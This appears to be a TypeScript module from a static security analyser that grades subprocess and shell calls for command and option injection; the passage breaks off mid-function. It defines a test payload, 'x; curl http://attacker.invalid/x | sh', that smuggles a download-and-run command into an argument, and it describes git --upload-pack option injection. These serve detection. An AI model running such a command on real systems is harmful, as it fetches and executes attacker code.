/** subprocess: shells, dynamic programs, programs off the allowlist. */
import { classifyCommand, injectableOptions, isOptionValue, runsWhatItsArgumentsName, type CommandVerdict } from '../../policy/commands.js';
import type { Action } from '../../policy/types.js';
import type { FileFacts, TemplatePart, Value } from '../facts.js';
import { constant, constString, dictGet, fillHoleMarkers, HOLE_PREFIX, joinValues, sanitizersOf, skeleton, taintOf, unknown, withSanitizer } from '../values.js';
import { isNumber, isWhich, RUNNING_INTERPRETER } from '../flow.js';
import { isPlainWord } from '../patterns.js';
import { agentCommandCode, allowlisted, calleeText, configuredValue, EVERY_CALLER_OWN, fillHoles, NO_SOURCE_OUTSIDE_AGENT_COMMANDS, notAllowlisted, ownAtEveryCall, passedThrough, quote, severityForTaint, taintPhrase, traceOf, unsanitized } from './common.js';
import type { Check, CheckContext, SinkHit, Verdict } from './types.js';

export const COMMAND_PAYLOAD = 'x; curl http://attacker.invalid/x | sh';

/**
 * A dynamic argument standing alone (a whole value, not text with constant parts), before any `--`, that the subcommand would read as
 * an option it takes and its model denies as running a program (`git clone --branch b $url dir` with `$url` =
 * `--upload-pack=…`): the verdict with that option there, and the option. `filled`: the arguments with every hole filled with the payload.
 */
function optionInjection(ctx: CheckContext, program: string, args: readonly Value[], filled: readonly string[]): { verdict: CommandVerdict; option: string } | undefined {
  const options = injectableOptions(program, filled);
  if (!options.length) return undefined;
  for (let i = 0; i < args.length; i++) {
    const a = args[i]!;
    if (constString(a) === '--') return undefined;
    // (a whole value, not text built around one: `{home}/.cua/tool` joined to a path does not become an option)
    const alone = a.kind === 'unknown' || (a.kind === 'template' && a.parts.every((p) => typeof p !== 'string' || p === ''));
    if (!alone || isNumber(a) || ctx.fixed(a)) continue;
    for (const option of options) {
      const verdict = classifyCommand({ command: program, args: filled.map((x, j) => (j === i ? `${option}=${COMMAND_PAYLOAD}` : x)) }, null);
      // (an option that runs a program; `docker run --privileged` in place of an image name the configuration gives is
      // not what an injected word is likely to be worth a look for)
      if (!verdict.allowed && (verdict.problem === 'wrapper' || verdict.problem === 'shell' || verdict.problem === 'interpreter')) return { verdict, option };
    }
  }
  return undefined;
}

/** How a call spawns a process, read from the sink's `with` hints and the call's arguments. */
export interface SpawnShape {
  /** the whole command line, when it goes through a shell */
  line?: Value;
  /** argv form: the program and its arguments */
  program?: Value;
  args: Value[];
  /** whether `shell` is enabled: true, false, or unknown (a dynamic flag) */
  shell: boolean | 'unknown';
  /** the places a program named by its file name was found in, when a dynamic value chose the directory */
  foundIn?: Value;
}

function listItems(v: Value | undefined): Value[] | undefined {
  return v && v.kind === 'list' ? v.items : undefined;
}


/** One of several programs a value may start: the one the command policy does not allow outright (a shell, a wrapper), if any. */
function judgedAmong(programs: readonly string[]): Value {
  return constant(programs.find((o) => !classifyCommand({ command: o, args: [] }, null).allowed) ?? programs[0]!);
}

function knownProgram(v: Value | undefined, facts?: FileFacts): Value | undefined {
  // `Path(found)`, `str(found)`: the text of one value is that value
  if (v?.kind === 'template' && v.parts.length === 1 && typeof v.parts[0] !== 'string') return knownProgram(v.parts[0]!.hole, facts);
  // found one of several ways (`which("uv")`, else `~/.cargo/bin/uv`, else `None`): the program each way names, when every one names one
  // (a dynamic directory, `{venv}/bin/python3`, still names the program; `spawnShape` keeps where it was found)
  if (v && v.kind === 'unknown' && v.alternatives?.length && !v.alternatives.every((a) => a.kind === 'list')) {
    const names: string[] = [];
    for (const a of v.alternatives) {
      if (a.kind === 'const' && a.value === null) continue;
      const named = a.kind === 'template' ? constantFileName(a) : constString(knownProgram(a, facts));
      if (named === undefined) return v;
      names.push(named);
    }
    if (names.length) return judgedAmong(names);
  }
  // one of several constants (`'docker' if local else 'podman'`): judged as the one that is a shell or wrapper, if any
  const options = oneOfStrings(v);
  if (options) return judgedAmong(options);
  if (v && v.kind === 'unknown' && v.ref && RUNNING_INTERPRETER[v.ref] && !v.taint?.length) return constant(RUNNING_INTERPRETER[v.ref]!);
  if (facts && v && v.kind === 'unknown' && v.ref && isWhich(v.ref) && !v.taint?.length) {
    // the value does not say which lookup made it: when every lookup of the file names one constant program, it is that one
    const names = new Set(facts.calls.filter((c) => c.callee + '()' === v.ref).map((c) => constString(c.args[0])));
    if (names.size === 1 && !names.has(undefined)) return constant([...names][0]!);
  }
  return v;
}

export function spawnShape(hit: SinkHit, facts?: FileFacts): SpawnShape {
  const shape = rawSpawnShape(hit);
  if (!shape.program) return shape;
  const program = knownProgram(shape.program, facts);
  const foundIn = program !== shape.program && shape.program.kind === 'unknown' && shape.program.taint?.length ? shape.program : undefined;
  return foundIn ? { ...shape, program, foundIn } : { ...shape, program };
}

function rawSpawnShape(hit: SinkHit): SpawnShape {
  const w = hit.sink.with ?? {};
  const call = hit.call;
  const main = hit.value;
  let shell: boolean | 'unknown' = false;
  if (w.shell === true) shell = true;
  if (typeof w.shellKeyword === 'string') {
    const flag = call.kwargs[w.shellKeyword];
    if (flag) shell = flag.kind === 'const' ? !!flag.value : 'unknown';
  }
  if (typeof w.optionsIndex === 'number') {
    // JS: the options object is at optionsIndex, or earlier when the args array is omitted
    const candidates = [call.args[w.optionsIndex], call.args[w.optionsIndex - 1]];
    for (const c of candidates) {
      const flag = dictGet(c, 'shell');
      if (flag) shell = flag.kind === 'const' ? (typeof flag.value === 'string' ? true : !!flag.value) : 'unknown';
    }
  }
  // pexpect's `spawn(command)`: no shell; the command line is cut into words, the first the program
  if (w.split === true && main && !(typeof w.argsIndex === 'number' && call.args[w.argsIndex]) && !(typeof w.argsKeyword === 'string' && call.kwargs[w.argsKeyword])) {
    const words = commandWords(main);
    return words ? { program: words[0], args: words.slice(1), shell: false } : { program: main, args: [], shell: false };
  }
  if (shell === true) {
    const items = listItems(main);
    // with `shell: true`, Node joins the program and its arguments into one command line
    // (pexpect's `spawn(shell, args=["-c", command])`: the arguments by keyword)
    const given = typeof w.argsIndex === 'number' ? call.args[w.argsIndex] ?? (typeof w.argsKeyword === 'string' ? call.kwargs[w.argsKeyword] : undefined) : undefined;
    const argv = listItems(given);
    const line = items ? items[0] : argv ? joinValues([main ?? unknown(), ...argv], ' ') : main;
    return { line, args: [], shell };
  }
  const items = listItems(main);
  if (items) return { program: items[0], args: items.slice(1), shell };
  const argv = typeof w.argsIndex === 'number' ? listItems(call.args[w.argsIndex]) : undefined;
  if (argv) return { program: main, args: argv, shell };
  const rest = typeof w.argsIndex === 'number' && w.argsRest ? call.args.slice(w.argsIndex) : [];
  const words = !rest.length && shell === false ? leadingProgramWords(main) : undefined;
  if (words) return { program: words[0], args: words.slice(1), shell };
  return { program: main, args: rest, shell };
}

/**
 * A command line given as one string without a shell (`subprocess.run(f'pdflatex -output-directory="{d}" "{f}"')`):
 * where it starts at all (Windows, which parses the line into arguments; elsewhere the whole string names one program
 * that is not there), it starts the constant first word; its words, when that word is a constant.
 */
function leadingProgramWords(v: Value | undefined): Value[] | undefined {
  if (!v || (v.kind !== 'template' && v.kind !== 'const')) return undefined;
  const head = v.kind === 'const' ? constString(v) : typeof v.parts[0] === 'string' ? v.parts[0] : undefined;
  if (head === undefined || !/^\s*[\w./\\:-]+\s/.test(head)) return undefined;
  const words = commandWords(v);
  return words && words.length > 1 && words[0]!.kind === 'const' ? words : undefined;
}

/**
 * A command line cut into words without a shell (pexpect's own split): the program's word (a constant, the one value
 * that fills it, or text with holes) and each constant word or value after it; undefined when it is not text.
 */
function commandWords(v: Value): Value[] | undefined {
  if (v.kind === 'const') {
    const t = constString(v);
    return t === undefined ? undefined : t.trim().split(/\s+/).map((w) => constant(w));
  }
  if (v.kind !== 'template') return undefined;
  const head: TemplatePart[] = [];
  let i = 0;
  let tail = '';
  for (; i < v.parts.length; i++) {
    const p = v.parts[i]!;
    if (typeof p !== 'string') {
      head.push(p);
      continue;
    }
    const text = head.length ? p : p.trimStart();
    const cut = text.search(/\s/);
    if (cut < 0) {
      if (text) head.push(text);
      continue;
    }
    if (cut > 0) head.push(text.slice(0, cut));
    tail = text.slice(cut);
    i++;
    break;
  }
  if (!head.length) return undefined;
  const first = head[0]!;
  const program: Value = head.length === 1 ? (typeof first === 'string' ? constant(first) : first.hole) : { kind: 'template', parts: head };
  const args = [tail, ...v.parts.slice(i)].flatMap((p): Value[] => (typeof p === 'string' ? p.split(/\s+/).filter(Boolean).map((w) => constant(w)) : [p.hole]));
  return [program, ...args];
}

function oneOfStrings(v: Value | undefined): string[] | undefined {
  if (!v || v.kind !== 'unknown' || !v.oneOf?.length || v.taint?.length) return undefined;
  return v.oneOf.every((o) => typeof o === 'string') ? (v.oneOf as string[]) : undefined;
}

/**
 * What every caller of a helper hands it as the command: `constant` when each is an argv list starting with a
 * constant program, a command line starting with a constant word or a constant file name (`_run(["uv", "sync"])`);
 * `own` when some argv list starts instead with a program the project's own code finds or names, with no untrusted
 * origin (`git_cmd([GIT_CMD, "tag"])`, `GIT_CMD` found by another module at start-up); undefined otherwise.
 */
function programAtEveryCall(ctx: CheckContext, v: Value | undefined): 'constant' | 'own' | undefined {
  const passed = passedThrough(ctx, v);
  if (!passed?.length) return undefined;
  let own = false;
  for (const p of passed) {
    // (one of several argv lists, `["wrangler", ...]` or `["npx", "wrangler", ...]`: each starting with a constant program)
    const lists = p.kind === 'unknown' && p.alternatives?.length && p.alternatives.every((a) => a.kind === 'list') ? p.alternatives : [p];
    if (lists.every((l) => l.kind === 'list' && constString(knownProgram(l.items[0], ctx.facts)) !== undefined) || startsWithConstantWord(p) || constantFileName(p) !== undefined) continue;
    // a command its caller had a command validator let through (`self.validator.validate_command(cmd)`): a program it
    // allows, whatever origins the command has
    if (allowlisted(p, true) || (taintOf(p).length && taintOf(p).every((o) => o.sanitized?.includes('program-allowlisted')))) continue;
    const first = p.kind === 'list' ? p.items[0] : undefined;
    if (!first || taintOf(first).length || !foundByOwnCode(first)) return undefined;
    own = true;
  }
  return own ? 'own' : 'constant';
}

/** A program found a way that names it: on PATH by a constant name, or as a constant file name in some directory, or one of these ways. */
function programNamedAtEveryCall(ctx: CheckContext, program: Value): boolean {
  const passed = ctx.passedIn?.(program);
  const found = (p: Value): boolean =>
    (p.kind === 'unknown' && !!p.alternatives?.length) || (p.kind === 'template' && p.parts.length === 1 && typeof p.parts[0] !== 'string' && found(p.parts[0]!.hole));
  return !!passed && passed.every((p) => constantFileName(p) !== undefined || (found(p) && constString(knownProgram(p, ctx.facts)) !== undefined));
}

/**
 * A command line whose first word is constant (`f"python -m server --model {name}"`): a helper that splits it into
 * argv (`command.split()`, `shlex.split(command)`) starts that program, whatever the later words are.
 */
function startsWithConstantWord(v: Value): boolean {
  const sk = skeleton(v);
  const word = sk && /^\s*([^\s'"]+)\s/.exec(sk.text)?.[1];
  return !!word && !word.includes(HOLE_PREFIX) && !/[$`;&|<>(){}*?]/.test(word);
}

/** The program's file name when only its directory is dynamic: `{dir}/pwsh.exe`. */
function constantFileName(v: Value): string | undefined {
  if (v.kind !== 'template') return undefined;
  // (not a file right in a temporary folder: a program there is one the code itself put there, compiled or downloaded,
  // `{tmp}/temp.exe`; a virtual environment made there has its programs in a folder of its own, `{tmp}/bin/pip`)
  const i = v.parts.findIndex((p) => typeof p !== 'string' && p.hole.kind === 'unknown' && !!p.hole.ref && TEMPORARY_FOLDER.test(p.hole.ref));
  const after = i >= 0 ? v.parts[i + 1] : undefined;
  if (typeof after === 'string' && /^[\\/][^\\/]*$/.test(after)) return undefined;
  const last = v.parts[v.parts.length - 1];
  // `{venv}/bin/{"python" or "python.exe"}`: one of several constant names after the last separator
  if (last && typeof last !== 'string') {
    const before = v.parts[v.parts.length - 2];
    const names = oneOfStrings(last.hole);
    if (typeof before !== 'string' || !names) return undefined;
    if (/[\\/]$/.test(before)) return names.every((n) => /^[\w.+-]*[a-z][\w.+-]*$/i.test(n)) ? names[0] : undefined;
    // `{sdk}/platform-tools/adb{ext}`, `ext` one of "", ".exe", ".bat": a constant name with one of several extensions
    const m = /[\\/]([\w.+-]*[a-z][\w.+-]*)$/i.exec(before);
    return m && names.every((n) => /^(?:\.[a-z0-9]+)?$/i.test(n)) ? m[1] : undefined;
  }
  if (typeof last !== 'string') return undefined;
  const m = /[\\/]([\w.+-]+)$/.exec(last);
  return m && /[a-z]/i.test(m[1]!) ? m[1] : undefined;
}

/** A temporary folder or file the code makes or asks for (`tempfile.TemporaryDirectory()`, `os.tmpdir()`, `mkdtempSync`). */
const TEMPORARY_FOLDER = /(?:^|\.)(?:mkdtemp|mkdtempSync|tmpdir|gettempdir|mkstemp|TemporaryDirectory|NamedTemporaryFile)\(\)$/;

/** Data a run reads (a configuration file's JSON, YAML or TOML, a file's text, a database row, a response): a repository, a user or a peer can put a program there. */
const READ_AT_RUN_TIME = /(?:^|\.)(?:json|yaml|toml|tomllib|tomli|JSON)\.(?:safe_)?(?:loads?|parse)\(\)|(?:^|\.)(?:read|read_text|readFile|readFileSync|readlines?|load|loads|fetch|urlopen|fetchone|fetchall|fetchmany|find_one|findOne|findFirst|recv|json)\(\)/;

/**
 * A shell line whose every dynamic part is in its first word, the program, and is a value named for a program's path
 * (`adb_path`, `self.ffmpeg_bin`, `node_exe`): the rest of the line is constant text, so nothing but the program varies.
 * (A hole named otherwise, `f"{cmd} 2>&1"`, may hold a whole command line.)
 */
function programOnlyLine(sk: { text: string; holes: Value[] }): boolean {
  const first = /^\s*\S+/.exec(sk.text)?.[0] ?? '';
  if (!first.includes(HOLE_PREFIX) || sk.text.slice(first.length).includes(HOLE_PREFIX)) return false;
  return sk.holes.every(namedProgramPath);
}

/** A value whose every origin, or whose reference, is named for a program's path. */
function namedProgramPath(v: Value): boolean {
  const origins = taintOf(v);
  if (origins.length) return origins.every((o) => PROGRAM_PATH_NAME.test(o.name));
  return v.kind === 'unknown' && !!v.ref && PROGRAM_PATH_NAME.test(v.ref.replace(/\(\)$/, ''));
}

const PROGRAM_PATH_NAME = /(?:^|[._])(?:[a-z0-9]+_)*(?:path|bin|binary|exe|executable)$/i;

/**
 * The condition of the `NO_SOURCE_OUTSIDE_AGENT_COMMANDS` grading: none of these values was read at run time (data a
 * repository, a user or a peer can write) or stands in code that runs an agent's commands.
 */
function ownPlumbing(ctx: CheckContext, call: SinkHit['call'], values: readonly Value[]): boolean {
  return !values.some(readAtRunTime) && !values.some((v) => agentCommandCode(ctx, call, v));
}

/** A value read at run time (`READ_AT_RUN_TIME`), or text with such a part. */
function readAtRunTime(v: Value): boolean {
  if (v.kind === 'unknown') return !!v.ref && READ_AT_RUN_TIME.test(v.ref);
  if (v.kind === 'template') return v.parts.some((p) => typeof p !== 'string' && readAtRunTime(p.hole));
  if (v.kind === 'list') return v.items.some(readAtRunTime);
  return false;
}

/** The verdict on a program `foundByOwnCode`. */
const foundByOwnCodeVerdict = (callee: string) => ({
  message: `\`${callee}\` starts a program its own code finds or builds (not a constant); no tool parameter, model output or request input reaches it, so it is graded low; make sure only the program chooses it.`,
  severity: 'low' as const,
  action: { kind: 'exec' as const, command: '/tmp/agentos_probe', args: [] },
});

/**
 * A program the code names by what made it: a helper's result, an attribute of its own (`get_binary_path()`,
 * `self.server_path`), a path with such a directory; not data read at run time, and not a value whose origin was lost
 * on the way (an entry of a table of several programs picked by a key, a name from a loop over other names).
 */
function foundByOwnCode(v: Value): boolean {
  if (v.kind === 'unknown') return !!v.ref && !READ_AT_RUN_TIME.test(v.ref) && !v.oneOf?.length && !v.alternatives?.length;
  if (v.kind === 'template') return v.parts.some((p) => typeof p !== 'string') && v.parts.every((p) => typeof p === 'string' || p.hole.kind === 'const' || foundByOwnCode(p.hole));
  return false;
}

/**
 * `shell: process.platform === "win32"`, `shell=os.name == "nt"`, `shell: isWindows`: a shell on Windows only (to
 * start a `.cmd` there), read from the option's text in the call, as a reader does. The command is the same argv
 * everywhere; what reaches its arguments still decides (a shell on Windows joins them unescaped).
 */
function shellOnWindowsOnly(ctx: CheckContext, hit: SinkHit): boolean {
  const flag = /\bshell\s*[:=]\s*\(?((?:\(\)|[^,(){}\n]){1,80})/.exec(ctx.text(hit.call.range))?.[1];
  return !!flag && windowsTest(ctx, hit, flag, 0);
}

/**
 * The text is a Windows test, or a name every assignment of which before the call in its function is one
 * (`is_windows = platform.system() == "Windows"; use_shell = is_windows`), followed two names deep.
 */
function windowsTest(ctx: CheckContext, hit: SinkHit, text: string, depth: number): boolean {
  if (WINDOWS_TEST.test(text)) return true;
  const name = /^\s*([A-Za-z_$][\w$]*)\s*$/.exec(text)?.[1];
  if (!name || depth > 1) return false;
  const fn = hit.call.enclosingFunction ? ctx.facts.functions.find((f) => f.id === hit.call.enclosingFunction) : undefined;
  const start = fn ? fn.range.line : Math.max(1, hit.call.range.line - 40);
  if (hit.call.range.line - start > 400) return false;
  const before = ctx.text({ line: start, column: 1, endLine: hit.call.range.line, endColumn: 1 });
  const assigned = [...before.matchAll(new RegExp(`^[ \\t]*(?:(?:const|let|var)\\s+)?${name.replace(/\$/g, '\\$')}\\s*(?::[^=\\n]{1,40})?=(?!=)\\s*\\(?([^\\n;]{1,80}?)\\)?[ \\t]*;?[ \\t]*$`, 'gm'))];
  return assigned.length > 0 && assigned.every((m) => windowsTest(ctx, hit, m[1]!, depth + 1));
}

/** An untrusted origin reaches the program or one of its arguments. */
const argvUntrusted = (ctx: CheckContext, shape: SpawnShape) => [shape.program, ...shape.args].some((a) => !!a && ctx.untrusted(a).length > 0);

const WINDOWS_TEST = /^\s*(?:(?:process\.platform|(?:os\.)?platform\(\))\s*===?\s*['"]win32['"]|(?:sys\.platform|os\.name|platform\.system\(\))\s*==\s*['"](?:win32|nt|Windows)['"]|(?:is_?win(?:dows|32)?|IS_WIN(?:DOWS|32)?|isWin(?:dows|32)?)(?:\(\))?)\s*$/i;

/** Stands for a dynamic argument while a command is classified. */
const DYNAMIC_ARG = 'agentos_dynamic_argument';
const INLINE_CODE_FLAG = /^(?:-[a-zA-Z]*[cem]|--command|--eval)$/;
/** The flag before a shell's command line (`bash -c`, `sh -lc`), and before an interpreter's inline code (`python -c`, `osascript -e`). */
const SHELL_LINE_FLAG = /^-[a-z]*c$/;
const INTERPRETER_CODE_FLAG = /^-[a-z]*[ce]$/;

/**
 * Whether what finally runs is fixed by the constant arguments, so the dynamic ones (undefined)
 * can only be data: a wrapper whose program is a constant argument (`uv run test <n>`,
 * `npx prettier <file>`), an interpreter or shell whose inline code or script is a constant
 * argument with only constants before it (`python -c CODE <arg>`, `bash deploy.sh <arg>`).
 */
export function fixedByConstants(program: string, args: readonly (string | undefined)[], depth = 0): boolean {
  const verdict = classifyCommand({ command: program, args: args.map((a) => a ?? DYNAMIC_ARG) }, null);
  if (verdict.allowed) return true;
  if (depth > 3) return false;
  if (verdict.problem === 'wrapper') {
    const i = verdict.target === undefined ? -1 : args.indexOf(verdict.target);
    return i >= 0 && args.slice(0, i).every((a) => a !== undefined) && fixedByConstants(verdict.target!, args.slice(i + 1), depth + 1);
  }
  if (verdict.problem === 'interpreter' || verdict.problem === 'shell') {
    const flag = args.findIndex((a) => a !== undefined && INLINE_CODE_FLAG.test(a));
    const code = flag >= 0 ? flag + 1 : args.findIndex((a) => a === undefined || !a.startsWith('-'));
    return code >= 0 && code < args.length && args.slice(0, code + 1).every((a) => a !== undefined);
  }
  return false;
}

function constArgs(values: Value[]): string[] | undefined {
  const out: string[] = [];
  for (const v of values) {
    // (numbers spliced into constant text, `f"ulimit -v {kib}"`, leave the text's words as they are)
    const sk = v.kind === 'template' ? skeleton(v) : undefined;
    const s = sk && sk.holes.every(isNumber) ? fillHoleMarkers(sk.text, '…') : constString(v);
    if (s === undefined) return undefined;
    out.push(s);
  }
  return out;
}

function allowlistActive(ctx: CheckContext): string[] | null {
  if (ctx.config.commands.allow !== null) return ctx.config.commands.allow;
  return ctx.config.policy === 'strict' || ctx.config.policy === 'audit' ? [] : null;
}

/** A spawn whose argv is one of several constant lists is judged on each; the first verdict is the finding. */
function eachAlternative(judge: Extract<Check, { kind: 'sink' }>['judge']): Extract<Check, { kind: 'sink' }>['judge'] {
  return (hit, ctx) => {
    const alternatives = hit.value?.kind === 'unknown' ? hit.value.alternatives : undefined;
    if (!alternatives?.length) return judge(hit, ctx);
    for (const value of alternatives) {
      const verdict = judge({ ...hit, value }, ctx);
      if (verdict) return verdict;
    }
    return undefined;
  };
}

/**
 * Every hole of a shell line's skeleton stands outside single and double quotes (a quoted value inside quotes would end
 * them), or is one `inert` says is the same inside them (a plain word, a number), and every quote is closed.
 */
function bareWords(text: string, inert: (hole: number) => boolean = () => false): boolean {
  const { holes, open } = quotedHoles(text);
  // (a plain word or a number is the same between quotes as outside them)
  return open === undefined && holes.every((h) => h.quote === undefined || inert(h.n));
}

/**
 * The holes of a shell line's skeleton, each with the quote it stands between (none outside quotes) and, between double
 * quotes, whether the quoted word is read as a line again (a substitution opened in it, or the word handed to something
 * that runs it as code: `sh -c "tmux kill-session -t ${name}"`); `open`: a quote left open at the end.
 */
function quotedHoles(text: string): { holes: { n: number; quote?: string; reread?: boolean }[]; open?: string } {
  const holes: { n: number; quote?: string; reread?: boolean }[] = [];
  let quote: string | undefined;
  let reread = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quote === undefined && c === '\\') i++;
    else if (quote === undefined && (c === "'" || c === '"')) {
      quote = c;
      reread = c === '"' && CODE_WORD_BEFORE.test(text.slice(0, i));
    } else if (quote !== undefined && c === quote) quote = undefined;
    else if (quote === '"' && c === '\\') i++;
    else if (quote === '"' && (c === '`' || text.startsWith('$(', i))) reread = true;
    else if (text.startsWith(HOLE_PREFIX, i)) {
      const hole = /^(\d+)__/.exec(text.slice(i + HOLE_PREFIX.length));
      holes.push({ n: hole ? Number(hole[1]) : NaN, ...(quote !== undefined ? { quote, reread } : {}) });
    }
  }
  return quote === undefined ? { holes } : { holes, open: quote };
}

/** A value a pattern of plain characters let through (`/^[a-f0-9]+$/`): a word in any position (patterns.ts `isPlainWord`). */
const plainWord = (h: Value) => isPlainWord(sanitizersOf(h));

/**
 * The shell line with each dynamic part that stands between double quotes (`tmux has-session -t "${name}"`) and holds
 * none of `$`, a backquote, `"` or `\` (`dquote-inert`) taken as quoted for the shell: it stays one word, as a value
 * `shlex.quote` made does. Not inside a command substitution opened in the quotes (`"$(cat ${f})"`), where the shell
 * reads it as a line again. `closed`: those parts, by number.
 */
function closeDoubleQuoted(line: Value): { line: Value; closed: ReadonlySet<number> } {
  if (line.kind !== 'template' || !line.parts.some((p) => typeof p !== 'string' && sanitizersOf(p.hole).includes('dquote-inert'))) return { line, closed: NONE_CLOSED };
  const quoted = new Set(quotedHoles(skeleton(line)!.text).holes.flatMap((h) => (h.quote === '"' && !h.reread ? [h.n] : [])));
  const closed = new Set<number>();
  let i = 0;
  const parts = line.parts.map((p) => {
    if (typeof p === 'string') return p;
    const n = i++;
    if (!quoted.has(n) || !sanitizersOf(p.hole).includes('dquote-inert')) return p;
    closed.add(n);
    return { hole: withSanitizer(p.hole, 'shell-quoted') };
  });
  return { line: { ...line, parts }, closed };
}

const NONE_CLOSED: ReadonlySet<number> = new Set();

/**
 * Hole `i` of a shell line is handed to something that runs it as code (`$SHELL -c {shlex.quote(cmd)}`, `python -c ...`,
 * `eval ...`): quoting keeps it one word for the outer shell, and the inner one runs it.
 */
function runAsCode(text: string, i: number): boolean {
  return CODE_WORD_BEFORE.test(text.slice(0, text.indexOf(`${HOLE_PREFIX}${i}__`)));
}

/** What stands before a word a shell line hands to something that runs it as code (`-c`, `eval`, ...). */
const CODE_WORD_BEFORE = /(?:^|\s)(?:-[a-zA-Z]*[ce]|\/c|-Command|-EncodedCommand)\s+\S*$|(?:^|[\s;&|(])(?:eval|exec|source|\.)\s+\S*$/;

/**
 * A shell line (or, `via` a program's flag, an interpreter's inline code) whose dynamic parts are only the program's own
 * values, configuration or the object's settings: low, whether a `shell` option or `bash -c` runs it.
 */
function ownLineVerdict(callee: string, skeletonText: string, action: Action, via?: { program: string; flag: string; code: boolean }) {
  const what = via?.code ? 'inline code' : 'a shell command line';
  const how = via ? ` with \`${via.program} ${via.flag}\`` : '';
  const fix = via?.code ? 'pass the values as arguments rather than in the code' : 'pass an argv list without a shell where you can';
  return {
    message: `\`${callee}\` runs ${what} assembled from the program's own values, configuration or the object's settings (${quote(fillHoleMarkers(skeletonText, '…'))})${how}; no tool parameter, model output or request input reaches it, so it is graded low; ${fix}.`,
    severity: 'low' as const,
    action,
  };
}

/** Commands run through a shell, or through a program that is a shell, wrapper or inline interpreter. */
export const commandShell: Check = {
  kind: 'sink',
  judge: eachAlternative((hit, ctx) => {
    const shape = spawnShape(hit, ctx.facts);
    const callee = calleeText(ctx, hit.call);
    if (shape.line) {
      const { line: v, closed } = closeDoubleQuoted(shape.line);
      const sk = skeleton(v);
      const raw = ctx.untrusted(v);
      const taints = unsanitized(ctx, v, ['shell-quoted']);
      const action: Action = { kind: 'exec', command: fillHoles(v, COMMAND_PAYLOAD) ?? COMMAND_PAYLOAD, shell: true };
      // a line made only of the program's constants (also through helper parameters) is graded as a constant one
      // (numbers spliced into a fixed line, `taskkill /pid ${child.pid} /f /t`, cannot add a word or an operator)
      if ((sk && sk.holes.every(isNumber)) || (!raw.length && ctx.fixed(v))) {
        const what = sk ? quote(fillHoleMarkers(sk.text, '…')) : "a command line from the program's own constants";
        return { message: `\`${callee}\` runs ${what} through a shell; pass an argv list without a shell, or run it through the kernel.`, severity: 'low', action };
      }
      const quoted = taints.length < raw.length || sanitizersOf(v).includes('shell-quoted');
      const from = taints.length ? taintPhrase(taints) : 'dynamic values';
      // graded as SQL text is: no untrusted origin in sight is worth a look, and only the program's own values,
      // configuration or the object's settings spliced in is low
      if (!taints.length && !quoted && sk && sk.holes.every(configuredValue)) {
        return ownLineVerdict(callee, sk.text, action);
      }
      // the whole line is a setting the object was made with (a notification or editor command a user configures): by design
      if (!taints.length && !quoted && !sk && taintOf(v).length && configuredValue(v)) {
        return {
          message: `\`${callee}\` runs a shell command line named by the settings the object was made with; no tool parameter, model output or request input reaches it, so it is graded low; make sure only deliberate configuration chooses it.`,
          severity: 'low',
          action,
        };
      }
      // the whole line is what the operator put in the environment or on the command line (`PROXY_COMMAND`): by design
      if (!taints.length && !quoted && !sk && !taintOf(v).length && ctx.own?.(v)) {
        return {
          message: `\`${callee}\` runs a shell command line named by the environment or command line the program is run with; no tool parameter, model output or request input reaches it, so it is graded low; make sure only deliberate configuration chooses it.`,
          severity: 'low',
          action,
        };
      }
      // every dynamic part is limited to plain characters or quoted for the shell, and stands outside any quotes of the
      // line (`git log ${hash}` past `/^[a-f0-9]+$/.test(hash)`, `f"ls {shlex.quote(d)}"`): it cannot add a word or an operator
      const inert = (h: Value | undefined) => !!h && (isNumber(h) || ctx.fixed(h) || plainWord(h));
      if (!taints.length && sk && sk.holes.length && bareWords(sk.text, (i) => inert(sk.holes[i]) || closed.has(i)) && sk.holes.every((h, i) => inert(h) || (sanitizersOf(h).includes('shell-quoted') && !runAsCode(sk.text, i)))) {
        return { message: `\`${callee}\` runs ${quote(fillHoleMarkers(sk.text, '…'))} through a shell with every dynamic part quoted for it or limited to plain characters; pass an argv list without a shell where you can.`, severity: 'low', action };
      }
      if (!taints.length && !raw.length && ownAtEveryCall(ctx, v)) {
        return { message: `\`${callee}\` runs a shell command line built from dynamic values; ${EVERY_CALLER_OWN}; pass an argv list without a shell where you can.`, severity: 'low', action };
      }
      // only the program is dynamic, a path named for one, and the rest of the line is constant (`adb_path + " shell input
      // keyevent 4"`): a dynamic program with constant arguments, graded as `starts a program whose name is not a constant`
      if (!taints.length && !raw.length && sk && programOnlyLine(sk) && ownPlumbing(ctx, hit.call, sk.holes)) {
        return {
          message: `\`${callee}\` runs ${quote(fillHoleMarkers(sk.text, '…'))} through a shell, a program named by a path value with constant arguments; ${NO_SOURCE_OUTSIDE_AGENT_COMMANDS}; pass an argv list without a shell where you can.`,
          severity: 'low',
          action,
        };
      }
      return {
        message: `\`${callee}\` runs a shell command line built from ${from}${quoted ? ' (shell-quoted)' : ''}; pass an argv list without a shell instead.`,
        // a whole line a caller passes in (`def run(cmd)`) keeps the rule's severity: it runs anything it is given
        severity: quoted || (!taints.length && v.kind === 'template') ? 'medium' : severityForTaint(taints, ctx.rule.severity),
        trace: traceOf(taints, ctx, hit.call, `reaches \`${callee}\``),
        action,
      };
    }
    // (a shell on Windows only, with no untrusted origin in the arguments: judged as the argv it is elsewhere, below)
    if (shape.shell === 'unknown' && !(shellOnWindowsOnly(ctx, hit) && !argvUntrusted(ctx, shape))) {
      // `shell=os.name == "nt"` with a constant argv list: the same fixed command either way
      if (ctx.fixed(hit.value) && !argvUntrusted(ctx, shape)) return { message: `\`${callee}\` runs a constant command; only whether a shell runs it is decided at run time.`, severity: 'low' };
      return { message: `\`${callee}\` may run its command through a shell (the \`shell\` option is dynamic).`, severity: 'medium' };
    }
    const program = constString(shape.program);
    if (program === undefined) return shape.program ? configuredShellLine(hit, ctx, shape.program, shape.args, callee) : undefined;
    const args = shape.args.map((a) => fillHoles(a, COMMAND_PAYLOAD) ?? COMMAND_PAYLOAD);
    // (a dynamic word standing alone after the subcommand may be an option it takes: `git clone $url` with `--upload-pack=…`)
    const plain = classifyCommand({ command: program, args }, null);
    const injected = plain.allowed ? optionInjection(ctx, program, shape.args, args) : undefined;
    const verdict = injected?.verdict ?? plain;
    if (verdict.allowed || verdict.problem === 'empty') return undefined;
    const known = constArgs(shape.args);
    const taints = shape.args.flatMap((a) => unsanitized(ctx, a, []));
    const action: Action = { kind: 'exec', command: program, args };
    // `uv run test <n>`, `python -c CODE <arg>`: the constant arguments fix what runs; the dynamic ones are its data
    // (tainted data for a fixed program is what subprocess-dynamic-command reports)
    if (!injected && !known && fixedByConstants(program, shape.args.map(constString))) return undefined;
    if (known) {
